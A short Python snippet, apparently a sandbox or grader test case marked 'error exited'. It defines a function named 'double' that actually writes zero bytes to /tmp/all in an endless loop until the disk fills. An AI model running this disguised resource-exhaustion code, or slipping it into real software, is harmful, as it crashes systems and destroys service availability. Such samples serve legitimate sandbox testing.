# error exited
def double(x):
    with open("/tmp/all", "wb") as opened:
        while True:
            opened.write(bytes(1 << 20))
